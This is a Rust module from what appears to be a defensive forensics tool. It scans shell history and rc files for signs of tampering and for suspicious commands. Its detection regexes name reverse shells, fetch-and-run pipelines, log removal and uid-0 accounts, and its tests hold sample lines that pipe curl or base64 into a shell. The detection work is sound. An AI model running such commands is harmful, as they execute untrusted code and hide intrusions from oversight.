//! Shell history (T1552.003, T1070.003): what each account typed, whether
//! the history was tampered with (linked to /dev/null, emptied, disabled in
//! an rc file), and commands that fetch and run code.

use super::read_text;
use crate::error::Result;
use crate::host::sys::rel;
use serde::Serialize;
use std::path::Path;

const CAP: u64 = 16 << 20;
const HISTORIES: &[&str] = &[
    ".bash_history",
    ".zsh_history",
    ".sh_history",
    ".ash_history",
    ".history",
    ".python_history",
    ".mysql_history",
    ".psql_history",
];
const RC_FILES: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".bash_logout",
];

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct HistoryIssue {
    pub user: String,
    /// `tampered`, `disabled` or `command`.
    pub kind: String,
    pub path: String,
    pub line: Option<usize>,
    pub text: String,
    pub reason: String,
}

/// Commands that download and run code, or hide what was done.
pub fn command_reason(line: &str) -> Option<&'static str> {
    static RULES: std::sync::OnceLock<Vec<(regex::Regex, &'static str)>> =
        std::sync::OnceLock::new();
    let rules = RULES.get_or_init(|| {
        [
            (
                r"(curl|wget)[^|;]*\|\s*(sudo\s+)?(ba|z|da)?sh\b",
                "downloads and runs a script",
            ),
            (
                r"(curl|wget)[^;|]*(-o|-O)\s*\S*(/tmp/|/var/tmp/|/dev/shm/)",
                "downloads into a temp folder",
            ),
            (
                r"base64\s+(-d|--decode)[^|]*\|\s*(ba|z|da)?sh\b",
                "runs decoded code",
            ),
            (
                r"chmod\s+\+?[0-7]*x?\S*\s+(/tmp/|/var/tmp/|/dev/shm/)",
                "makes a temp file executable",
            ),
            (r"/dev/tcp/|\bnc(at)?\b.*\s-[a-z]*e\s", "reverse shell"),
            (
                r"(history\s+-c|unset\s+HISTFILE|HISTFILE=/dev/null|>\s*~?/?\S*_history)",
                "clears or disables history",
            ),
            (
                r"(shred|rm)\s+[^;]*(/var/log/|wtmp|btmp|lastlog|auth\.log|secure)",
                "removes logs",
            ),
            (
                r"useradd\b.*-o\b.*-u\s*0|usermod\b.*-u\s*0\b",
                "creates a uid-0 account",
            ),
            (r"authorized_keys", "touches SSH authorized keys"),
        ]
        .into_iter()
        .filter_map(|(re, why)| regex::Regex::new(re).ok().map(|r| (r, why)))
        .collect()
    });
    rules
        .iter()
        .find(|(r, _)| r.is_match(line))
        .map(|(_, why)| *why)
}

/// Home folders: from the passwd file, plus `/root`.
fn homes(root: &Path) -> Vec<(String, String)> {
    let mut v = vec![("root".to_string(), "/root".to_string())];
    let text = std::fs::read(rel(root, "etc/passwd"))
        .map(|b| crate::output::lossless(&b))
        .unwrap_or_default();
    for line in text.lines() {
        let f: Vec<&str> = line.split(':').collect();
        if f.len() >= 6 && f[5].starts_with('/') && f[5] != "/" && !v.iter().any(|(_, h)| h == f[5])
        {
            v.push((f[0].to_string(), f[5].to_string()));
        }
    }
    v
}

pub fn scan(root: &Path, warn: &mut dyn FnMut(&str)) -> Result<Vec<HistoryIssue>> {
    let mut out = Vec::new();
    for (user, home) in homes(root) {
        let dir = rel(root, &home);
        if !dir.is_dir() {
            continue;
        }
        for h in HISTORIES {
            let p = dir.join(h);
            let shown = format!("{home}/{h}");
            let Ok(m) = std::fs::symlink_metadata(&p) else {
                continue;
            };
            if m.file_type().is_symlink() {
                let target = std::fs::read_link(&p)
                    .map(|t| t.display().to_string())
                    .unwrap_or_default();
                out.push(HistoryIssue {
                    user: user.clone(),
                    kind: "tampered".into(),
                    path: shown.clone(),
                    line: None,
                    text: format!("-> {target}"),
                    reason: if target == "/dev/null" {
                        "history linked to /dev/null".into()
                    } else {
                        "history is a symbolic link".into()
                    },
                });
                continue;
            }
            if m.is_file() && m.len() == 0 && *h == ".bash_history" {
                out.push(HistoryIssue {
                    user: user.clone(),
                    kind: "tampered".into(),
                    path: shown.clone(),
                    line: None,
                    text: String::new(),
                    reason: "history emptied".into(),
                });
                continue;
            }
            let Some(text) = read_text(&p, CAP, warn) else {
                continue;
            };
            for (i, line) in text.lines().enumerate() {
                // zsh extended history: ": 1700000000:0;command"
                let cmd = line
                    .split_once(';')
                    .filter(|_| line.starts_with(": "))
                    .map(|x| x.1)
                    .unwrap_or(line);
                if let Some(why) = command_reason(cmd) {
                    out.push(HistoryIssue {
                        user: user.clone(),
                        kind: "command".into(),
                        path: shown.clone(),
                        line: Some(i + 1),
                        text: cmd.chars().take(400).collect(),
                        reason: why.into(),
                    });
                }
            }
        }
        for rc in RC_FILES {
            let p = dir.join(rc);
            let Some(text) = read_text(&p, CAP, warn) else {
                continue;
            };
            for (i, line) in text.lines().enumerate() {
                let t = line.split('#').next().unwrap_or("").trim();
                let disabled = t.contains("unset HISTFILE")
                    || t.contains("HISTFILE=/dev/null")
                    || regex_like_zero(t, "HISTSIZE")
                    || regex_like_zero(t, "HISTFILESIZE")
                    || t.contains("set +o history");
                if disabled {
                    out.push(HistoryIssue {
                        user: user.clone(),
                        kind: "disabled".into(),
                        path: format!("{home}/{rc}"),
                        line: Some(i + 1),
                        text: t.into(),
                        reason: "shell history disabled at login".into(),
                    });
                }
            }
        }
    }
    Ok(out)
}

/// `NAME=0` (optionally exported).
fn regex_like_zero(t: &str, name: &str) -> bool {
    t.trim_start_matches("export ")
        .strip_prefix(name)
        .and_then(|r| r.strip_prefix('='))
        .is_some_and(|v| v.trim_matches(['"', '\'']) == "0")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_that_fetch_and_run() {
        assert!(command_reason("curl -fsSL http://x/y.sh | bash").is_some());
        assert!(command_reason("wget -q http://x -O /tmp/.k; chmod +x /tmp/.k").is_some());
        assert!(command_reason("echo aGk= | base64 -d | sh").is_some());
        assert!(command_reason("ls -la /etc").is_none());
        assert!(command_reason("git pull && cargo build").is_none());
    }
}
